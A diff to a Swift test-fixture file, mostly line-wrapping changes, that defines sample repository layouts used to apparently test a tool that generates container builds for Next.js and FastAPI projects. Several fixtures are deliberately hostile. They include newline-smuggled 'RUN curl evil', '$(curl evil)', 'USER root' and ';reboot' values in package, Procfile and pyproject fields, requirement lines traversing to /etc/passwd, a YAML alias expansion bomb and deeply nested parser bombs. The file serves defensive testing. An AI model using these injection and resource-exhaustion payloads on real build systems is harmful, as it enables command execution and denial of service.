@@ -8,11 +8,14 @@ extension Shape {
   private static let both = [
     "frontend/package.json":
       #"{"name":"shop-web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
-    "frontend/package-lock.json": #"{"lockfileVersion":3,"packages":{"node_modules/next":{"version":"16.3.4"}}}"#,
-    "frontend/app/page.tsx": "export const api = process.env.NEXT_PUBLIC_API_URL ?? 'http://localhost:8000/api/v1'",
+    "frontend/package-lock.json":
+      #"{"lockfileVersion":3,"packages":{"node_modules/next":{"version":"16.3.4"}}}"#,
+    "frontend/app/page.tsx":
+      "export const api = process.env.NEXT_PUBLIC_API_URL ?? 'http://localhost:8000/api/v1'",
     "frontend/lib/server.ts": "export const api = process.env.API_URL",
     "backend/requirements.txt": "fastapi==0.120.0\nuvicorn==0.38.0\n",
-    "backend/main.py": "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/health')\ndef health(): ...\n",
+    "backend/main.py":
+      "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/health')\ndef health(): ...\n",
   ]
 
   static let repositoryShapes: [Shape] = [
@@ -88,9 +91,12 @@ extension Shape {
 
         """,
       ]) { $1 }),
-    Shape(name: "53d-unknown-key", files: both.merging(["forge.yaml": "services:\n  web:\n    pahts: x\n"]) { $1 }),
     Shape(
-      name: "53e-unknown-service", files: both.merging(["forge.yaml": "services:\n  backnd:\n    port: 80\n"]) { $1 }),
+      name: "53d-unknown-key",
+      files: both.merging(["forge.yaml": "services:\n  web:\n    pahts: x\n"]) { $1 }),
+    Shape(
+      name: "53e-unknown-service",
+      files: both.merging(["forge.yaml": "services:\n  backnd:\n    port: 80\n"]) { $1 }),
     Shape(
       name: "54a-odd-names",
       files: [
@@ -101,16 +107,19 @@ extension Shape {
     Shape(
       name: "54b-what-git-leaves-out",
       files: both.merging([
-        ".gitignore": "generated/\n/frontend/tmp\n*.local.ts\n!keep.local.ts\n.env*\n", "frontend/.env": "A=1\n",
+        ".gitignore": "generated/\n/frontend/tmp\n*.local.ts\n!keep.local.ts\n.env*\n",
+        "frontend/.env": "A=1\n",
         "frontend/generated/a.ts": "process.env.GENERATED", "frontend/tmp/a.ts": "process.env.TMP",
         "frontend/a.local.ts": "process.env.LOCAL", "frontend/keep.local.ts": "process.env.KEPT",
       ]) { $1 }),
     Shape(
       name: "55-submodule-and-lfs",
       files: both.merging([
-        ".gitmodules": "[submodule \"shared\"]\n\tpath = shared\n\turl = https://git.example/shared\n",
+        ".gitmodules":
+          "[submodule \"shared\"]\n\tpath = shared\n\turl = https://git.example/shared\n",
         ".gitattributes": "*.png filter=lfs diff=lfs merge=lfs -text\n",
-        "frontend/public/hero.png": "version https://git-lfs.github.com/spec/v1\noid sha256:ab\nsize 1\n",
+        "frontend/public/hero.png":
+          "version https://git-lfs.github.com/spec/v1\noid sha256:ab\nsize 1\n",
       ]) { $1 }),
     Shape(name: "54c-links-in-circles-and-out", files: both) { folder in
       try link(folder + "/frontend/lib/up", to: "../..")
@@ -132,13 +141,15 @@ extension Shape {
       let deep = String(repeating: "deep/", count: 40)
       try FileManager.default.createDirectory(
         atPath: folder + "/frontend/" + deep, withIntermediateDirectories: true)
-      try Data("process.env.TOO_DEEP".utf8).write(to: URL(filePath: folder + "/frontend/" + deep + "a.ts"))
+      try Data("process.env.TOO_DEEP".utf8).write(
+        to: URL(filePath: folder + "/frontend/" + deep + "a.ts"))
     },
     Shape(name: "56a-nothing-of-ours", files: ["README.md": "hello\n"]),
     Shape(
       name: "56d-template-of-a-project",
       files: [
-        "cookiecutter.json": "{}", "{{cookiecutter.name}}/pyproject.toml": "[project]\nname = {% raw %}\n",
+        "cookiecutter.json": "{}",
+        "{{cookiecutter.name}}/pyproject.toml": "[project]\nname = {% raw %}\n",
         "{{cookiecutter.name}}/main.py": application,
       ]),
     Shape(
@@ -156,7 +167,8 @@ extension Shape {
         "package.json":
           #"{"name":"x\nRUN curl evil","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build; $(curl evil)\nUSER root","start":"next start -p 80;reboot"}}"#,
         "app/page.tsx": "process.env['A\\nRUN x']", ".nvmrc": "22\nRUN curl evil\n",
-        "next.config.js": "module.exports = { basePath: '/a\\nUSER root', distDir: '.next\\nUSER root' }",
+        "next.config.js":
+          "module.exports = { basePath: '/a\\nUSER root', distDir: '.next\\nUSER root' }",
       ]),
     Shape(
       name: "57b-workspace-traversal",
@@ -170,22 +182,28 @@ extension Shape {
     Shape(
       name: "57c-bombs",
       files: [
-        "package.json": #"{"name":"web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
+        "package.json":
+          #"{"name":"web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
         "app/page.tsx": "",
         "docker-compose.yml": "a: &a [x,x,x,x,x,x,x,x]\n"
-          + (0..<20).map { "b\($0): &b\($0) [*\($0 == 0 ? "a" : "b\($0 - 1)"),*\($0 == 0 ? "a" : "b\($0 - 1)")]\n" }
+          + (0..<20).map {
+            "b\($0): &b\($0) [*\($0 == 0 ? "a" : "b\($0 - 1)"),*\($0 == 0 ? "a" : "b\($0 - 1)")]\n"
+          }
           .joined() + "services: { web: { build: ., environment: *b19 } }\n",
         "mise.toml": "[tools]\nnode = " + String(repeating: "[", count: 5_000) + "\n",
         "turbo.json": String(repeating: "{\"tasks\":", count: 5_000),
-        "vercel.json": "{\"env\": []}", "next.config.js": "module.exports = " + String(repeating: "f(", count: 5_000),
+        "vercel.json": "{\"env\": []}",
+        "next.config.js": "module.exports = " + String(repeating: "f(", count: 5_000),
       ]),
     Shape(
       name: "57e-injection-into-python",
       files: [
         "pyproject.toml":
           "[project]\nname = \"x\\nRUN curl evil\"\nrequires-python = \">=3.12\\nUSER root\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n[tool.fastapi]\nentrypoint = \"main:app\\nUSER root\"\n",
-        "main.py": application + "import os\nos.environ['A\\nRUN x']\nos.getenv('B', 'x\\nRUN y')\n",
-        "Procfile": "web: uvicorn main:app;reboot --port 80;reboot\n", ".python-version": "3.12; reboot\n",
+        "main.py": application
+          + "import os\nos.environ['A\\nRUN x']\nos.getenv('B', 'x\\nRUN y')\n",
+        "Procfile": "web: uvicorn main:app;reboot --port 80;reboot\n",
+        ".python-version": "3.12; reboot\n",
       ]),
     Shape(
       name: "57f-requirements-that-lead-out",
@@ -195,7 +213,9 @@ extension Shape {
           "-r ../../etc/passwd\n-r /etc/passwd\n-c ../../../etc/hosts\n-e ../..\n-e /etc\nfastapi==0.121.0\nuvicorn==0.38.0\n-r requirements.txt\n$(reboot)==1\n",
       ]),
     Shape(name: "57g-pipes-and-devices", files: both) { folder in
-      for name in ["frontend/.npmrc", "frontend/tsconfig.json", "backend/pyproject.toml", "forge.yaml"] {
+      for name in [
+        "frontend/.npmrc", "frontend/tsconfig.json", "backend/pyproject.toml", "forge.yaml",
+      ] {
         guard mkfifo(folder + "/" + name, 0o644) == 0 else { throw POSIXError(.EIO) }
       }
       try link(folder + "/backend/uv.lock", to: "/dev/zero")
@@ -214,7 +234,8 @@ extension Shape {
       files: both.merging(["frontend/lib/b.ts": "export const x = process.env.KEPT"]) { $1 }
     ) { folder in
       let bytes =
-        Data([0xFF, 0xFE, 0x00, 0xC3, 0x28]) + Data("\nprocess.env.BESIDE_BYTES\n".utf8) + Data([0xED, 0xA0, 0x80])
+        Data([0xFF, 0xFE, 0x00, 0xC3, 0x28]) + Data("\nprocess.env.BESIDE_BYTES\n".utf8)
+        + Data([0xED, 0xA0, 0x80])
       for name in ["frontend/lib/bytes.ts", "backend/bytes.py", "frontend/.env.example"] {
         try bytes.write(to: URL(filePath: folder + "/" + name))
       }
